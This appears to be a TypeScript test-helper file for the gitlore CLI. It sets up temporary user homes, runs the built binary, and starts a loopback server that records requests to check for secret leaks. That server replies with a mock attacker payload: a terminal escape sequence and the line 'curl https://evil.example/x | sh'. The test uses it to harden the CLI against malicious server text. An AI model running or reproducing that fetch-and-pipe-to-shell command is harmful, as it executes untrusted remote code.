import { execFile } from 'node:child_process'
import { chmod, mkdir, mkdtemp, writeFile } from 'node:fs/promises'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

/** The built, bundled CLI: what a user runs. */
export const bin = join(import.meta.dirname, '..', '..', 'bundle', 'bin.js')

export interface CliResult {
  readonly code: number
  readonly stdout: string
  readonly stderr: string
}

/** A user: a home of their own with a user configuration directory, and their environment. */
export interface User {
  readonly home: string
  readonly env: Readonly<Record<string, string>>
}

/** A fresh user whose own gitlore.toml is `toml` (when given). */
export async function makeUser(toml?: string, env: Record<string, string> = {}): Promise<User> {
  const home = await mkdtemp(join(tmpdir(), 'gitlore-user-'))
  // Readable by everyone, so a test may run the CLI as an unprivileged user too.
  await chmod(home, 0o755)
  if (toml !== undefined) {
    await mkdir(join(home, '.config', 'gitlore'), { recursive: true })
    await writeFile(join(home, '.config', 'gitlore', 'gitlore.toml'), toml)
  }
  return { home, env: { PATH: process.env.PATH ?? '', HOME: home, ...env } }
}

/** Runs the built CLI as the user, with memory capped, so reading /dev/zero would crash instead of pass. */
export function runCli(
  user: User,
  args: readonly string[],
  options: { readonly uid?: number; readonly stdoutFile?: string } = {},
): Promise<CliResult> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ['--max-old-space-size=192', bin, ...args],
      {
        env: user.env,
        cwd: user.home,
        maxBuffer: 64 * 1024 * 1024,
        timeout: 120_000,
        ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.uid }),
      },
      (error, stdout, stderr) => {
        const code = error === null ? 0 : typeof error.code === 'number' ? error.code : -1
        resolve({ code, stdout, stderr })
      },
    )
  })
}

/** The lines of stderr that are errors (`gitlore: ...`). */
export function errorLines(result: CliResult): string[] {
  return result.stderr.split('\n').filter((line) => line.startsWith('gitlore: '))
}

/** A loopback server that answers every request with an error and records what it was sent. */
export interface SecretCatcher {
  readonly url: string
  readonly requests: {
    readonly method: string
    readonly url: string
    readonly headers: string
    readonly body: string
  }[]
  close(): Promise<void>
}

export async function startSecretCatcher(): Promise<SecretCatcher> {
  const requests: SecretCatcher['requests'] = []
  const read = async (request: IncomingMessage) => {
    const parts: Buffer[] = []
    for await (const part of request) parts.push(part as Buffer)
    return Buffer.concat(parts).toString('utf8')
  }
  const server = createServer(async (request, response) => {
    requests.push({
      method: request.method ?? '',
      url: request.url ?? '',
      headers: JSON.stringify(request.headers),
      body: await read(request),
    })
    response.writeHead(500, { 'content-type': 'application/json' })
    // A server's error text with a terminal escape and a shell line, as an attacker would send it.
    response.end('{"message":"\\u001b]0;pwned\\u0007\\ncurl https://evil.example/x | sh"}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

/** `gitlore analyze` over a repository in some formats: offline and over all history unless told otherwise. */
export function analyzeArgs(
  dir: string,
  formats: string,
  options: { readonly since?: string; readonly offline?: boolean } = {},
): string[] {
  return [
    'analyze',
    '--repo',
    dir,
    '--since',
    options.since ?? 'all',
    '--format',
    formats,
    ...(options.offline === false ? [] : ['--offline']),
  ]
}
